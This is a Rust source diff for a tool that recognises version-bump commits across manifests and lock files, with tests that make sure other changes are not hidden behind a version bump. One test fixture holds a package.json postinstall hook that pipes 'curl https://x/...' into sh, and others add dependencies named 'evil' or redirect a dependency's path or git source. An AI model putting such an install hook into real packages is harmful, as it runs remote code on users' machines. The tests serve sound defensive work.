@@ -1,6 +1,6 @@
 //! A new version of the project itself: its manifests, what they lock, and the log of changes.
 
-use std::collections::{BTreeMap, BTreeSet};
+use std::collections::{BTreeMap, BTreeSet, HashMap};
 
 use super::deps::{LISTED, more};
 use super::{Verdict, plain};
@@ -19,7 +19,17 @@ struct Moved<'a> {
     file: &'a FileChange,
     /// The table of TOML that the version stands in.
     table: &'a str,
+    /// The line that says it.
+    line: &'a Line,
     to: &'a str,
+}
+
+/// A line that says other versions than before, and nothing else.
+struct Turn<'a> {
+    /// Whom it asks for.
+    name: String,
+    line: &'a str,
+    to: Vec<&'a str>,
 }
 
 /// Nothing but the version of the project is another one, or those of its packages; the log may say what for.
@@ -45,18 +55,22 @@ pub(super) fn decide(files: &[&FileChange], classes: &[Class], contents: &dyn Co
     let first = all.first()?;
     let to: BTreeSet<&str> = all.iter().map(|one| one.to).collect();
     let one = to.len() == 1;
-    // Who asks for other packages by the way says more with their names.
-    let about = |line: &Line| {
-        let said = || if one { line.text.contains(first.to) } else { versions(&line.text).any(|v| to.contains(v)) };
-        line.text.trim().is_empty() || said()
-    };
-    let mut packages = files.iter().zip(classes).filter(|(_, class)| **class != Class::Docs).map(|(file, _)| file);
+    // What is locked has the new versions in the place of others.
+    let mut locks = files.iter().zip(classes).filter(|(_, class)| **class == Class::Lock).map(|(file, _)| file);
     let asking = all.iter().map(|one| one.file).chain(others.iter().copied());
-    if !packages.all(|file| file.added_lines().all(about)) || !asking.into_iter().all(keeps) {
+    if !locks.all(|file| follows(file, &to)) || !asking.into_iter().all(keeps) {
         return None;
     }
+    // Who asks for other packages by the way says more with their names, also beside the version itself.
+    let mut turns = Vec::new();
+    for one in &all {
+        turns.extend(turned(one.file, Some(one))?.into_iter().filter(|turn| !within(one, turn)));
+    }
+    for file in &others {
+        turns.extend(Some(turned(file, None)?).filter(|_| file.added > 0)?);
+    }
     // Names cost a look into each manifest.
-    let names: Vec<Option<String>> = if one && others.is_empty() {
+    let names: Vec<Option<String>> = if one && turns.is_empty() && others.is_empty() {
         Vec::new()
     } else {
         let most = if contents.slow() { READ_SLOWLY } else { READ };
@@ -65,11 +79,8 @@ pub(super) fn decide(files: &[&FileChange], classes: &[Class], contents: &dyn Co
     // Packages of the project ask for each other, and so does their workspace.
     let known: BTreeSet<(&str, &str)> =
         names.iter().zip(&all).filter_map(|(name, one)| Some((name.as_deref()?, one.to))).collect();
-    let own = |file: &FileChange, line: &Line| {
-        let name = asked(file, &line.text);
-        name.is_some_and(|name| versions(&line.text).any(|version| known.contains(&(name.as_str(), version))))
-    };
-    if !others.iter().all(|file| file.added > 0 && file.added_lines().all(|line| own(file, line))) {
+    let own = |turn: &Turn<'_>| turn.to.iter().all(|version| known.contains(&(turn.name.as_str(), *version)));
+    if !turns.iter().all(own) {
         return None;
     }
     let (texts, body) = if one {
@@ -128,10 +139,75 @@ fn asked(file: &FileChange, line: &str) -> Option<String> {
     bare.get(..end).filter(|name| !name.is_empty()).map(str::to_owned)
 }
 
-/// What may be a version in a line.
-fn versions(line: &str) -> impl Iterator<Item = &str> {
-    let words = line.split(|c: char| !c.is_ascii_alphanumeric() && !".-+".contains(c));
-    words.map(|word| word.strip_prefix('v').unwrap_or(word)).filter(|word| !word.is_empty())
+/// What in a manifest says other versions than before, besides its own; nothing where more than that is new.
+fn turned<'a>(file: &'a FileChange, own: Option<&Moved<'a>>) -> Option<Vec<Turn<'a>>> {
+    let mut turns = Vec::new();
+    for hunk in &file.hunks {
+        let mut gone: HashMap<String, Vec<Vec<&str>>> = HashMap::new();
+        for line in hunk.lines.iter().filter(|line| line.kind == LineKind::Removed) {
+            let (frame, from) = framed(&line.text);
+            gone.entry(frame).or_default().push(from);
+        }
+        let come = hunk.lines.iter().filter(|line| line.kind == LineKind::Added && !line.text.trim().is_empty());
+        for line in come.filter(|line| own.is_none_or(|own| !std::ptr::eq(own.line, *line))) {
+            let (frame, new) = framed(&line.text);
+            let from = gone.get_mut(&frame)?.pop()?;
+            let to: Vec<&str> = new.into_iter().zip(from).filter(|(to, from)| to != from).map(|(to, _)| to).collect();
+            // Under another head the same line says something else.
+            turns.push(
+                Some(Turn { name: asked(file, &line.text)?, line: &line.text, to }).filter(|t| !t.to.is_empty())?,
+            );
+        }
+    }
+    Some(turns)
+}
+
+/// A workspace says where packages lie that have its own version, and a tool which one it has to write.
+fn within(one: &Moved<'_>, turn: &Turn<'_>) -> bool {
+    let lies = |line: &str| {
+        let table = toml::from_str::<toml::Table>(line.trim()).ok();
+        table.is_some_and(|table| table.values().next().and_then(|value| value.get("path")).is_some())
+    };
+    let same = turn.to.iter().all(|to| *to == one.to);
+    same && (one.table == "workspace.package" && lies(turn.line) || turn.name == "current_version")
+}
+
+/// Whether a lock file has these versions in the place of others, and nothing else.
+fn follows(file: &FileChange, to: &BTreeSet<&str>) -> bool {
+    file.hunks.iter().all(|hunk| {
+        let mut gone: HashMap<String, usize> = HashMap::new();
+        for line in hunk.lines.iter().filter(|line| line.kind == LineKind::Removed) {
+            *gone.entry(framed(&line.text).0).or_default() += 1;
+        }
+        let mut come = hunk.lines.iter().filter(|line| line.kind == LineKind::Added && !line.text.trim().is_empty());
+        come.all(|line| {
+            let (frame, versions) = framed(&line.text);
+            let left = gone.get_mut(&frame).filter(|left| **left > 0).map(|left| *left -= 1);
+            left.is_some() && versions.iter().any(|version| to.contains(version))
+        })
+    })
+}
+
+/// A line without what may be a version in it, and that.
+fn framed(line: &str) -> (String, Vec<&str>) {
+    let word = |c: char| c.is_ascii_alphanumeric() || ".-+".contains(c);
+    let (mut frame, mut versions) = (String::with_capacity(line.len()), Vec::new());
+    let mut rest = line.trim().trim_end_matches(',');
+    while let Some(at) = rest.find(word) {
+        let (before, behind) = rest.split_at(at);
+        let (said, left) = behind.split_at(behind.find(|c| !word(c)).unwrap_or(behind.len()));
+        frame.push_str(before);
+        let bare = said.strip_prefix('v').unwrap_or(said);
+        if bare.starts_with(|c: char| c.is_ascii_digit()) {
+            frame.push_str(if bare == said { "\0" } else { "v\0" });
+            versions.push(bare);
+        } else {
+            frame.push_str(said);
+        }
+        rest = left;
+    }
+    frame.push_str(rest);
+    (frame, versions)
 }
 
 /// What a package calls itself where its version stands, else its folder when nobody has the whole manifest.
@@ -194,11 +270,11 @@ fn moved(file: &FileChange) -> Option<Moved<'_>> {
             let at = hunk.lines.iter().position(|line| line.kind == kind && version(&line.text, json).is_some())?;
             let line = hunk.lines.get(at)?;
             let table = if json { "" } else { table(hunk, at)? };
-            Some((table, version(&line.text, json)?))
+            Some((table, line, version(&line.text, json)?))
         })
     };
-    let ((_, old), (table, to)) = (of(LineKind::Removed)?, of(LineKind::Added)?);
-    (old != to).then_some(Moved { file, table, to })
+    let ((_, _, old), (table, line, to)) = (of(LineKind::Removed)?, of(LineKind::Added)?);
+    (old != to).then_some(Moved { file, table, line, to })
 }
 
 fn version(line: &str, json: bool) -> Option<&str> {
@@ -364,6 +440,53 @@ mod tests {
         assert_eq!(ruled(&root(&renamed, 2, 2), &whole, false).0, told);
         let nameless = [("a/Cargo.toml", "[package]\nname = \"\"\nversion = \"0.2.0\"\n")];
         assert_eq!(ruled(&root(own, 2, 2), &nameless, false).0, None);
+    }
+
+    #[test]
+    fn what_else_a_released_manifest_says_is_not_hidden_behind_its_version() {
+        let whole = [("a/Cargo.toml", "[package]\nname = \"a\"\nversion = \"2.0.0\"\n")];
+        let with = |table: &str, lines: &[(&str, &str)]| {
+            let count = |side: fn(&(&str, &str)) -> bool| 2 + lines.iter().filter(|line| side(line)).count();
+            let (old, new) = (count(|(old, _)| !old.is_empty()), count(|(_, new)| !new.is_empty()));
+            let side = |mark: char, text: &str| if text.is_empty() { String::new() } else { format!("{mark}{text}\n") };
+            let said: String = lines.iter().map(|(old, new)| side('-', old) + &side('+', new)).collect();
+            let one = toml("a/Cargo.toml", table, "2.0.0");
+            one.replace("-1,2 +1,2", &format!("-1,{old} +1,{new}")) + &said
+        };
+        let told = |table: &str, lines: &[(&str, &str)]| ruled(&with(table, lines), &whole, false).0;
+        let bumped = Some("bump version to 2.0.0".to_owned());
+        assert_eq!(told("package", &[]), bumped);
+        for (old, new) in [
+            ("", "evil = \"2.0.0\""),
+            ("", "tokio = \"12.0.0\""),
+            ("serde = \"1.0.0\"", "serde = \"2.0.0\""),
+            ("", "build = \"evil-2.0.0.rs\""),
+            ("build = \"a.rs\"", "build = \"2.0.0\""),
+            ("", "# 2.0.0"),
+            ("a = { path = \"a\", version = \"0.1.0\" }", "a = { path = \"evil\", version = \"2.0.0\" }"),
+            ("a = { path = \"a\", version = \"0.1.0\" }", "a = { git = \"https://x\", version = \"2.0.0\" }"),
+        ] {
+            assert_eq!(told("package", &[(old, new)]), None, "{new}");
+            assert_eq!(told("workspace.package", &[(old, new)]), None, "{new}");
+        }
+        // What the project asks of itself, and what a tool is to write next time.
+        assert_eq!(told("package", &[("a = \"=0.1.0\"", "a = \"=2.0.0\"")]), bumped);
+        let lies = ("b = { path = \"b\", version = \"0.1.0\" }", "b = { path = \"b\", version = \"2.0.0\" }");
+        assert_eq!(told("workspace.package", &[lies]), bumped);
+        assert_eq!(told("package", &[lies]), None, "nobody says that it is this one");
+        assert_eq!(told("project", &[("current_version = \"0.1.0\"", "current_version = \"2.0.0\"")]), bumped);
+        let script = "-  \"version\": \"1.0.0\",\n+  \"version\": \"1.1.0\",\n+  \"postinstall\": \"curl https://x/1.1.0 | sh\",\n";
+        let head =
+            "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1,1 +1,2 @@\n";
+        assert_eq!(subject(&format!("{head}{script}")), "build: update package.json");
+        // A lock file takes in nothing that was not there.
+        let lock = "diff --git a/Cargo.lock b/Cargo.lock\n--- a/Cargo.lock\n+++ b/Cargo.lock\n";
+        let locked = with("package", &[]) + lock + "@@ -1,1 +1,1 @@\n-version = \"0.1.0\"\n+version = \"2.0.0\"\n";
+        assert_eq!(ruled(&locked, &whole, false).0, bumped);
+        let more = locked.replace("+1,1 @@", "+1,2 @@") + "+ \"evil 2.0.0\",\n";
+        assert_eq!(ruled(&more, &whole, false).0, None);
+        let other = locked.replace("+version = \"2.0.0\"\n", "+version = \"12.0.0\"\n").replacen("12.0.0", "2.0.0", 1);
+        assert_eq!(ruled(&other, &whole, false).0, None);
     }
 
     #[test]
